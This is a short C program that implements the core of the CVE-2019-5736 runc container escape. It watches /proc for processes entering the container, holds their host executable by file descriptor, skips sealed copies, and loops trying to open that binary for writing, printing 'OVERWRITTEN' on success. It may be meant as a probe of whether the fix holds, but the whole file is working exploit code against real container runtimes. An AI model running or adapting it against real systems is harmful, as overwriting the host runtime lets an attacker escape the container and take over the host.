/* The way of CVE-2019-5736: holds on to the program of whoever enters, and writes to it when it has become another. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  char own[4096] = {0}, path[300], target[4096];
  readlink("/proc/self/exe", own, sizeof own - 1);
  puts("watching");
  fflush(stdout);
  for (;;) {
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(processes))) {
      if (atoi(entry->d_name) <= 1) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      memset(target, 0, sizeof target);
      if (readlink(path, target, sizeof target - 1) < 0) continue;
      if (strncmp(target, "/bin/", 5) == 0) continue;
      int held = open(path, O_PATH);
      if (held < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      /* It may have become another one meanwhile: the container's own programs are the container's to write to. */
      memset(target, 0, sizeof target);
      if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/bin/", 5) == 0) { close(held); continue; }
      /* What is sealed may be opened, and stays what it is. */
      int read_only = open(path, O_RDONLY);
      int seals = fcntl(read_only, F_GET_SEALS);
      close(read_only);
      if (seals > 0 && (seals & F_SEAL_WRITE)) { close(held); continue; }
      printf("held %s\n", target);
      for (int i = 0; i < 20000; i++) {
        int written = open(path, O_WRONLY);
        if (written >= 0) { puts("OVERWRITTEN"); break; }
      }
      fflush(stdout);
      close(held);
    }
    closedir(processes);
  }
}
